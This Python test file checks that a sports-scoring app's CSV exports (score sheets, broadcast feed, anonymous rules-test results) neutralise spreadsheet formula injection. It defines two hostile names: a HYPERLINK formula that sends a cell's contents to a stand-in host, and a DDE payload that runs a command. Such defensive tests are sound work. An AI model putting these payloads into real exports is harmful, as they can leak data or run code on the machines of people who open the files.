"""Issue 35, item 7, through the doors: the score sheet's CSV, the broadcast feed's CSV
and the rules test's result (``POST /learn/result.csv``, anonymous) with a team or a
candidate named as a formula: no cell is one."""

from __future__ import annotations

import csv
import io
from typing import Any

from chukker import csvsafe

HOSTILE = ('=HYPERLINK("http://x/"&A1)', "=cmd|' /C calc'!A0")


def _cells(text: str) -> list[str]:
    return [c for r in csv.reader(io.StringIO(text)) for c in r]


def _no_formula(text: str) -> None:
    for c in _cells(text):
        assert not c.startswith(csvsafe.TRIGGERS) or csvsafe.NUMBER.fullmatch(c), c


def test_owasp_rule_match_exports_with_a_formula_for_a_team_name(client: Any, make_match: Any,
                                                                 header: dict[str, Any],
                                                                 post: Any) -> None:
    teams = header["teams"]
    teams["A"]["name"], teams["B"]["name"] = HOSTILE
    m = make_match(client, teams=teams)
    assert post(client, m, {"type": "bowl_in"}).status_code == 201
    assert post(client, m, {"type": "goal", "team": "A", "player": 2}).status_code == 201
    for path in ("goals.csv", "fouls.csv"):
        r = client.get(f"/m/{m.id}/{path}")
        assert r.status_code == 200
        _no_formula(r.text)
    assert "'" + HOSTILE[0] in _cells(client.get(f"/m/{m.id}/goals.csv").text)
    feed = client.get(f"/api/matches/{m.id}/feed.csv")
    assert feed.status_code == 200
    _no_formula(feed.text)
    assert {"'" + HOSTILE[0], "'" + HOSTILE[1]} <= set(_cells(feed.text))


def test_owasp_rule_learn_result_csv_anonymous(client: Any) -> None:
    form = {"level": "player", "edition": "uspa-arena-2006", "n": "2", "seed": "5",
            "pass_mark": "80"}
    for name in HOSTILE:
        r = client.post("/learn/result.csv", data={**form, "name": name})
        assert r.status_code == 200
        _no_formula(r.text)
        assert "'" + name in _cells(r.text)
